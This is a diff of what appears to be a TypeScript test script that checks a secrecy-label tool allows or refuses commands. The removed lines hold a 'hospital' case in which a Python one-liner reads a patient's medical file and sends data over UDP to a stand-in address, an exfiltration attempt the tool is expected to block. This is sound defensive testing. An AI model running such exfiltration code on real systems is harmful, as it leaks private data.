@@ -98,14 +98,6 @@ function steps(at: string): Step[] {
       csn conflict create platform/drug-makers acme/secret bayer/secret`),
     allowed("carol", "she works for the first", `csn label set ${at}/acme --secrecy acme/secret && csn run ${volume} --secrecy acme/secret -- grep -q A ${at}/acme/trial.txt`),
     refused("carol", "and is stopped at the second: history counts", `csn run ${volume} --secrecy bayer/secret -- grep -q B ${at}/bayer/trial.txt`),
-
-    allowed("hospital", "a program that floats reads alice's file", `csn run ${volume} --float --clearance alice/medical -- grep -q . ${at}/cases/alice.csv`),
-    refused("hospital", "and is stopped at the network", `csn run ${volume} --float --clearance alice/medical -- python3 -c "
-import socket
-open('${at}/cases/alice.csv').read()
-s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-s.sendto(b'secret', ('192.0.2.1', 9))"`),
-    refused("hospital", "or at another patient's file, beyond its clearance", `csn run ${volume} --float --clearance alice/medical -- grep -q . ${at}/cases/bob.csv`),
   ];
 } // prettier-ignore
 
